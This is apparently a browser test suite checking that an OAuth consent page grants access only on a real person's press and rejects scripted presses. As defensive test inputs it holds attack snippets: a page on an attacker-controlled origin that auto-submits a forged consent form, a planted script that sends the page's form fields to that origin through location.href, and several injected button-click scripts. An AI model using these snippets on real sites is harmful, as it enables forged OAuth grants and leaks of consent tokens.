import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { DrivenBrowser, Tab } from '../browser/driven-browser.ts';
import { button } from '../browser/driven-browser.ts';
import { anAccount, anIntegration } from '../harness/fixtures.ts';
import type { ReceivedRequest } from '../harness/received-requests.ts';
import { receivedRequests } from '../harness/received-requests.ts';
import { attackerSite, clickAttempts } from './attacker.ts';
import { signInAt, until } from './hop-journeys.ts';
import type { InjectingProxy } from './injecting-proxy.ts';
import { anInjectingProxy } from './injecting-proxy.ts';
import type { BrowserFixture } from './browser-fixture.ts';
import { openFixtureBehind } from './browser-fixture.ts';

/** Scripted presses of the page's form, which a browser without `Sec-Fetch-User` cannot mark as such. */
const byForm = ['a click by script', 'a dispatched press', 'form.submit()', 'form.requestSubmit()'] as const;

/**
 * Registers the tests of confirmations in this browser.
 *
 * @param tellsPersons whether it sends `Sec-Fetch-User` with a person's press
 * @see SECURITY.md
 */
export function describeConfirmations(drive: () => Promise<DrivenBrowser>, tellsPersons: boolean): void {
  let stage: BrowserFixture & { readonly between: InjectingProxy };
  let browser: DrivenBrowser;
  let received: readonly ReceivedRequest[];
  beforeAll(async () => {
    stage = await openFixtureBehind(anInjectingProxy);
    received = receivedRequests(stage.platform);
    await anAccount(stage.platform, 'berth');
    await anAccount(stage.platform, 'north');
    browser = await drive();
    await signInAt({ stage, browser }, 'admin@north.test');
  }, 120_000);
  afterAll(async () => {
    await browser.close();
    await stage.close();
  });

  /** Runs on the consent page of its own integration. */
  async function asked(run: (tab: Tab, its: { readonly clientId: string; readonly page: string }) => Promise<void>) {
    const { client_id: clientId } = await anIntegration(stage.platform, 'berth', { redirectUri: `${stage.url}/help` });
    const tab = await browser.newTab();
    // The tab stays open: the answer to its press may still be on its way.
    await run(tab, { clientId, page: `/oauth?client_id=${clientId}&state=s` });
  }

  /** Opens the page with a planted script, waits for its press, and returns the request. */
  async function pressedBy(script: string, tab: Tab, page: string): Promise<ReceivedRequest | undefined> {
    const before = received.length;
    stage.between.plant(page, script);
    await tab.open(stage.url + page);
    const made = () => received.slice(before).filter(({ url }) => url === '/oauth/allow');
    await until(() => Promise.resolve(expect(made()).toHaveLength(1)));
    return made()[0];
  }

  async function grantsOf(clientId: string): Promise<number> {
    const { db } = stage.platform.world;
    return (await db.selectFrom('grants').select('id').where('integration_id', '=', clientId).execute()).length;
  }

  const person = tellsPersons ? '?1' : undefined;

  describe('a person allows', { timeout: 60_000 }, () => {
    test.each([
      ['by the mouse', (tab: Tab) => tab.click(button('Allow'))],
      ['by Enter', (tab: Tab) => tab.pressKey(button('Allow'), 'Enter')],
      ['by Space', (tab: Tab) => tab.pressKey(button('Allow'), 'Space')],
    ] as const)('%s, and the server gets the headers of a person’s press', (_, press) =>
      asked(async (tab, { clientId, page }) => {
        await tab.open(stage.url + page);
        await press(tab);
        await until(async () => expect(await grantsOf(clientId)).toBe(1));
        await until(() => Promise.resolve(expect(received.at(-1)?.url).not.toBe('/oauth/allow')));
        const pressed = received.filter(({ url }) => url === '/oauth/allow').at(-1);
        expect(pressed).toEqual({
          method: 'POST',
          url: '/oauth/allow',
          status: 303,
          origin: stage.url,
          fetchUser: person,
          fetchMode: 'navigate',
          fetchSite: 'same-origin',
        });
      }),
    );
  });

  describe('a script grants nothing', { timeout: 60_000 }, () => {
    test('planted in the page, by a fetch: 403', () =>
      asked(async (tab, { clientId, page }) => {
        const script = later(clickAttempts('button.js-accept')['a fetch of the same origin'] ?? '');
        const pressed = await pressedBy(script, tab, page);
        expect(pressed).toMatchObject({ status: 403, fetchMode: 'cors', fetchUser: undefined });
        expect(await grantsOf(clientId)).toBe(0);
      }));

    test('at another port of the same site, with the page’s real fields: 403', () =>
      asked(async (tab, { clientId, page }) => {
        const { origin, server } = await attackerSite(
          `<form method="post" action="${stage.url}/oauth/allow"></form><script>
            new URLSearchParams(location.search).forEach(function (value, name) {
              var field = document.createElement('input');
              field.type = 'hidden'; field.name = name; field.value = value;
              document.forms[0].append(field);
            });
            document.forms[0].submit();</script>`,
          'localhost',
        );
        const form = `document.querySelector('button.js-accept').form`;
        const leak = later(`location.href = '${origin}/?' + new URLSearchParams(new FormData(${form}))`);
        const pressed = await pressedBy(leak, tab, page);
        expect(pressed).toMatchObject({ status: 403, origin, fetchSite: 'same-site' });
        expect(await grantsOf(clientId)).toBe(0);
        server.close();
      }));

    test('under the page’s policy, which runs none', () =>
      asked(async (tab, { clientId, page }) => {
        stage.between.plant(
          page,
          `document.body.append('planted'); document.querySelector('button.js-accept').click()`,
          {
            keepPolicy: true,
          },
        );
        await tab.open(stage.url + page);
        await until(async () => expect(await tab.text()).toContain('Allow access'));
        expect(await tab.text()).not.toContain('planted');
        expect(await grantsOf(clientId)).toBe(0);
      }));

    if (tellsPersons) {
      test.each(byForm)('planted in the page, by %s: 403', (way) =>
        asked(async (tab, { clientId, page }) => {
          const pressed = await pressedBy(later(clickAttempts('button.js-accept')[way] ?? ''), tab, page);
          expect(pressed).toMatchObject({ status: 403, fetchMode: 'navigate', fetchUser: undefined });
          expect(await grantsOf(clientId)).toBe(0);
        }),
      );
    }
  });

  if (tellsPersons) return;
  // The remaining risk in SECURITY.md: in such a browser only the policy keeps scripts off the page.
  describe('a browser that sends no Sec-Fetch-User', { timeout: 60_000 }, () => {
    test.each(byForm)('cannot tell %s, once a script is in the page, from a person’s press', (way) =>
      asked(async (tab, { clientId, page }) => {
        const pressed = await pressedBy(later(clickAttempts('button.js-accept')[way] ?? ''), tab, page);
        expect(pressed).toMatchObject({ status: 303, fetchMode: 'navigate', fetchUser: undefined });
        expect(await grantsOf(clientId)).toBe(1);
      }),
    );
  });
}

/** Runs the script once a press is no longer too early. */
function later(script: string): string {
  return `setTimeout(function () { ${script} }, 1200)`;
}
